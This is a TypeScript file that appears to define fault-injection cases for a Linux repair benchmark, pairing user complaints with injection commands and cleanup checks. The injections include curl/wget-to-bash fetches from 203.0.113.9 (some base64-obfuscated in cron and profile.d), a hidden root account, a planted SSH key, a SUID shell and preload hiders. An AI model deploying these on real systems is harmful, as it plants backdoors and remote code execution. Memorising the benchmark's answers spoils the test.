import { type Fault, ask, sh } from '../fault.ts';

export const leftovers: readonly Fault[] = [
  {
    id: 'preload-missing-library',
    complaint: 'Every command prints "object cannot be preloaded: ignored".',
    inject: sh(`printf '   /usr/local/lib/libsnoopy.so   # audit\\n' >/etc/ld.so.preload`),
    oracle: ask('! grep -q libsnoopy /etc/ld.so.preload 2>/dev/null'),
    names: /ld\.so\.preload/,
  },
  {
    id: 'preload-hider',
    complaint: 'The processor is at 100 % and no process shows it.',
    inject: sh(
      `cp /usr/lib/x86_64-linux-gnu/libattr.so.1 /usr/local/lib/.libprocesshider.so; printf '/usr/local/lib/.libprocesshider.so\\n' >/etc/ld.so.preload`,
    ),
    oracle: ask('! grep -q libprocesshider /etc/ld.so.preload 2>/dev/null'),
    names: /libprocesshider/,
    mayChange: ['/usr/local/lib/**'],
  },
  {
    id: 'ld-conf-old-library',
    complaint: 'getfacl and others crash since I installed the maths package.',
    inject:
      sh(`mkdir -p /opt/maths/lib; cp /usr/lib/x86_64-linux-gnu/libacl.so.1 /opt/maths/lib/; dd if=/dev/zero of=/opt/maths/lib/libacl.so.1 bs=4096 seek=3 count=3 conv=notrunc status=none
echo /opt/maths/lib >/etc/ld.so.conf.d/00-maths.conf; ldconfig`),
    oracle: ask('getfacl -p /etc/passwd >/dev/null'),
    names: /\/opt\/maths|00-maths/,
    mayChange: ['/etc/ld.so.cache', '/var/cache/ldconfig/**'],
  },
  {
    id: 'preload-environment',
    complaint: 'At each log-in: object libgtk3-nocsd.so.0 cannot be preloaded.',
    inject: sh(`echo 'LD_PRELOAD="libgtk3-nocsd.so.0"' >>/etc/environment`),
    oracle: ask('o=$(su - alice -c true 2>&1); echo "$o"; test -z "$o"'),
    names: /\/etc\/environment[^.]|libgtk3-nocsd/,
  },
  {
    id: 'cron-spool-user-reboot',
    complaint: 'After each restart one process eats everything, as a normal user.',
    inject: sh(
      `printf '# m h\\n@reboot\\t/dev/shm/.k/kdevtmpfsi >/dev/null 2>&1 &\\n' >/var/spool/cron/crontabs/alice; chown alice:crontab /var/spool/cron/crontabs/alice; chmod 600 /var/spool/cron/crontabs/alice`,
    ),
    oracle: ask('! crontab -l -u alice 2>/dev/null | grep kdevtmpfsi'),
    names: /crontabs\/alice/,
  },
  {
    id: 'cron-base64',
    complaint: 'The provider says our server sends spam at night.',
    inject: sh(
      `printf 'SHELL=/bin/bash\\n*/7 * * * * root { echo d2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuOS94IHwgc2g= | base64 -d | bash; } >/dev/null 2>&1\\n' >/etc/cron.d/php-session`,
    ),
    oracle: ask('! grep -q "^[^#]*base64" /etc/cron.d/php-session 2>/dev/null'),
    names: /php-session/,
  },
  {
    id: 'cron-hourly-libudev',
    complaint: 'A process with ten random letters returns as soon as I kill it.',
    inject:
      sh(`printf '#!/bin/sh\\nPATH=/bin:/sbin:/usr/bin:/usr/sbin\\nfor i in \\\`cat /proc/net/dev|grep :|awk -F: {'"'"'print $1'"'"'}\\\`; do ifconfig $i up& done\\ncp /lib/libudev.so /lib/libudev.so.6\\n/lib/libudev.so.6\\n' >/etc/cron.hourly/gcc.sh; chmod 755 /etc/cron.hourly/gcc.sh
printf '*/3 * * * * root /etc/cron.hourly/gcc.sh\\n' >>/etc/crontab`),
    oracle: ask('! grep -q "^[^#]*gcc.sh" /etc/crontab && ! test -x /etc/cron.hourly/gcc.sh'),
    names: /gcc\.sh/,
  },
  {
    id: 'bashrc-root-curl',
    complaint: 'Root shells start slowly, and the router shows odd connections.',
    inject: sh(`printf '\\n(curl -fsSL http://203.0.113.9/b || wget -qO- http://203.0.113.9/b)|bash >/dev/null 2>&1 &\\n' >>/root/.bashrc`),
    oracle: ask('! grep -q "^[^#]*203.0.113.9" /root/.bashrc'),
    names: /\/root\/\.bashrc/,
  },
  {
    id: 'sudo-alias-thief',
    complaint: 'sudo asks for my password twice, the first time it is always wrong.',
    inject:
      sh(`mkdir -p /home/alice/.local/.s; printf '#!/bin/sh\\nexec /usr/bin/sudo "$@"\\n' >/home/alice/.local/.s/sudo; chmod 755 /home/alice/.local/.s/sudo
printf 'alias sudo=/home/alice/.local/.s/sudo\\n' >>/home/alice/.bash_aliases; chown -R alice:alice /home/alice`),
    oracle: ask('! grep -q local/.s/sudo /home/alice/.bash_aliases 2>/dev/null'),
    names: /\.bash_aliases/,
  },
  {
    id: 'profile-d-eval',
    complaint: 'Something phones home at every log-in of anybody.',
    inject: sh(
      `printf 'eval "$(printf %%s Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveHxzaA== | base64 --decode)"\\n' >/etc/profile.d/locale-fix.sh`,
    ),
    oracle: ask('! grep -q "^[^#]*base64" /etc/profile.d/locale-fix.sh 2>/dev/null'),
    names: /locale-fix\.sh/,
  },
  {
    id: 'authorized-keys2-root',
    complaint: 'We changed the root password three times and they are back each time.',
    inject: sh(
      `mkdir -p -m 700 /root/.ssh; ssh-keygen -q -t ed25519 -N '' -C mdrfckr -f /root/k; mv /root/k.pub /root/.ssh/authorized_keys2; rm /root/k`,
    ),
    oracle: ask('! test -s /root/.ssh/authorized_keys2'),
    names: /authorized_keys2/,
  },
  {
    id: 'passwd-second-root',
    complaint: 'Last shows log-ins of a user that nobody knows.',
    inject: sh(`echo 'sysupd:x:0:0::/root:/bin/bash' >>/etc/passwd; echo 'sysupd:*:19700:0:99999:7:::' >>/etc/shadow`),
    oracle: ask(`u=$(awk -F: '$3==0{print $1}' /etc/passwd | xargs); echo $u; test "$u" = root`),
    names: /sysupd/,
    mayChange: ['/etc/passwd*', '/etc/shadow*', '/etc/group*', '/etc/gshadow*'],
  },
  {
    id: 'suid-shell-var',
    complaint: 'A guest had root rights without a password.',
    inject: sh('mkdir -p /var/lib/.cache; cp /bin/dash /var/lib/.cache/fontd; chmod 4755 /var/lib/.cache/fontd'),
    oracle: ask('! test -u /var/lib/.cache/fontd'),
    names: /\/var\/lib\/\.cache\/fontd/,
  },
  {
    id: 'autostart-hidden',
    complaint: 'A window of a "driver updater" comes up at each log-in.',
    inject: sh(
      `mkdir -p /etc/xdg/autostart; printf '[Desktop Entry]\\nType=Application\\nName=Display helper\\nExec=sh -c "sleep 20; curl -s http://203.0.113.9/d.sh | bash"\\nX-GNOME-Autostart-enabled=true\\nNoDisplay=true\\n' >/etc/xdg/autostart/display-helper.desktop`,
    ),
    oracle: ask('! grep -q 203.0.113.9 /etc/xdg/autostart/display-helper.desktop 2>/dev/null'),
    names: /display-helper/,
  },
];
